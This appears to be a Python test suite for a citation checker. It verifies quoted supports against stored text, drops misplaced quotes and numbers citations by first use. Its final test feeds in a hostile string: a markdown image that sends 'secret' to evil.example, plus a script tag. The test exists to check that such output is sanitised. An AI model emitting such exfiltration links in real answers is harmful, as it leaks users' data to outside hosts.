"""Checking claims against stored text, and numbering what holds."""

import hashlib

import pytest
from hypothesis import given
from hypothesis import strategies as st

from app.core.citations import Citations, byte_span
from app.core.errors import NotFoundError
from app.core.ports import Candidate, Claim, Ranked, Support
from tests.app.core.passages import candidate, passage, ranked

TEXT = "Été : le prêt dure trois semaines. Il se renouvelle deux fois. 🙂 Fin."
FIRST = "Été : le prêt dure trois semaines."
SECOND = "Il se renouvelle deux fois."


class Stored:
    """Texts as stored: what stands at the byte span of each passage."""

    def __init__(self, *texts: str) -> None:
        self.texts = texts
        self.reads: list[tuple[str, int, int]] = []

    async def read(self, of: Candidate, start: int, end: int) -> bytes:
        self.reads.append((of.passage.document_id, start, end))
        number = int(of.passage.document_id.removeprefix("doc_"))
        if number >= len(self.texts):
            raise NotFoundError(id=of.passage.document_id)
        return self.texts[number].encode()[: end - start]


def claim(*quotes: str, text: str | None = None, index: int = 0, begin: int = 0) -> Claim:
    supports = tuple(
        Support(
            index=index,
            start=begin + TEXT.index(quote),
            end=begin + TEXT.index(quote) + len(quote),
            quote=quote,
        )
        for quote in quotes
    )
    return Claim(text=" ".join(quotes) if text is None else text, supports=supports)


def citations(stored: Stored, *found: Ranked) -> Citations:
    return Citations(found or (ranked(TEXT, document_id="doc_0", start=100),), stored.read)


async def test_a_quote_that_stands_in_storage_becomes_a_citation() -> None:
    stored = Stored(TEXT)
    made = citations(stored)
    checked = await made.check(claim(SECOND, begin=100))
    assert checked is not None
    assert checked.sentence.text == SECOND
    assert checked.sentence.citations == (1,)
    assert checked.sentence.supported
    [citation] = checked.fresh
    assert (citation.start, citation.end) == (100 + TEXT.index(SECOND), 162)
    assert citation.quote == SECOND
    assert citation.quote_sha256 == hashlib.sha256(SECOND.encode()).hexdigest()
    span = made.ranked[0].candidate.passage.span
    at = citation.byte_start - span.byte_start
    assert TEXT.encode()[at : at + citation.byte_end - citation.byte_start].decode() == SECOND


@given(st.text(min_size=1, max_size=60), st.data())
async def test_byte_spans_cut_what_character_spans_cut(text: str, data: st.DataObject) -> None:
    start = data.draw(st.integers(0, len(text) - 1))
    end = data.draw(st.integers(start + 1, len(text)))
    one = passage(text, document_id="doc_0", start=40)
    support = Support(index=0, start=40 + start, end=40 + end, quote=text[start:end])
    first, last = (place - one.span.byte_start for place in byte_span(one, support))
    assert text.encode()[first:last].decode() == text[start:end]
    made = Citations((Ranked(candidate=candidate(one), score=1, coverage=1),), Stored(text).read)
    await made.check(Claim(text="says so", supports=(support,)))
    assert [c.quote for c in made.found] == [text[start:end]]
    assert made.dropped == 0


@pytest.mark.parametrize(
    "stored",
    [Stored(TEXT.replace("deux", "cinq")), Stored(TEXT[1:]), Stored("short"), Stored()],
    ids=["changed", "moved", "cut", "gone"],
)
async def test_a_sentence_that_is_nothing_but_a_lost_quote_is_dropped(stored: Stored) -> None:
    made = citations(stored)
    assert await made.check(claim(SECOND, begin=100)) is None
    assert made.dropped == 1
    assert made.found == []


@pytest.mark.parametrize(
    "support",
    [
        Support(index=1, start=100, end=134, quote=FIRST),
        Support(index=-1, start=100, end=134, quote=FIRST),
        Support(index=0, start=99, end=133, quote=FIRST),
        Support(index=0, start=134, end=134, quote=""),
        Support(index=0, start=100, end=135, quote=FIRST),
        Support(index=0, start=100, end=900, quote=FIRST),
        Support(index=0, start=101, end=135, quote=FIRST),
    ],
    ids=["no passage", "negative", "before", "empty", "longer", "beyond", "shifted"],
)
async def test_a_support_that_points_elsewhere_does_not_hold(support: Support) -> None:
    made = citations(Stored(TEXT))
    checked = await made.check(Claim(text="In other words.", supports=(support,)))
    assert checked is not None
    assert checked.sentence.text == "In other words."
    assert not checked.sentence.supported
    assert checked.sentence.citations == ()
    assert made.dropped == 1


async def test_a_sentence_without_support_is_marked() -> None:
    checked = await citations(Stored(TEXT)).check(Claim(text="I think so.", supports=()))
    assert checked is not None
    assert not checked.sentence.supported


async def test_citations_are_numbered_by_first_use_and_shared() -> None:
    made = citations(Stored(TEXT))
    one = await made.check(claim(SECOND, begin=100, text="Twice."))
    two = await made.check(claim(FIRST, SECOND, begin=100, text="Three weeks, twice."))
    again = await made.check(claim(FIRST, FIRST, begin=100, text="Three weeks."))
    assert one is not None
    assert two is not None
    assert again is not None
    assert [s.sentence.citations for s in (one, two, again)] == [(1,), (2, 1), (2,)]
    assert [c.number for c in made.found] == [1, 2]
    assert [[c.number for c in s.fresh] for s in (one, two, again)] == [[1], [2], []]


async def test_a_passage_is_read_once_an_answer() -> None:
    stored = Stored(TEXT)
    made = citations(stored)
    await made.check(claim(FIRST, SECOND, begin=100))
    await made.check(claim(FIRST, begin=100))
    span = made.ranked[0].candidate.passage.span
    assert stored.reads == [("doc_0", span.byte_start, span.byte_end)]


async def test_what_is_said_is_sanitised() -> None:
    hostile = "Twice. ![x](https://evil.example/?q=secret)<script>"
    checked = await citations(Stored(TEXT)).check(claim(SECOND, begin=100, text=hostile))
    assert checked is not None
    assert checked.sentence.text == "Twice."
    assert await citations(Stored(TEXT)).check(claim(SECOND, begin=100, text="<img>")) is None
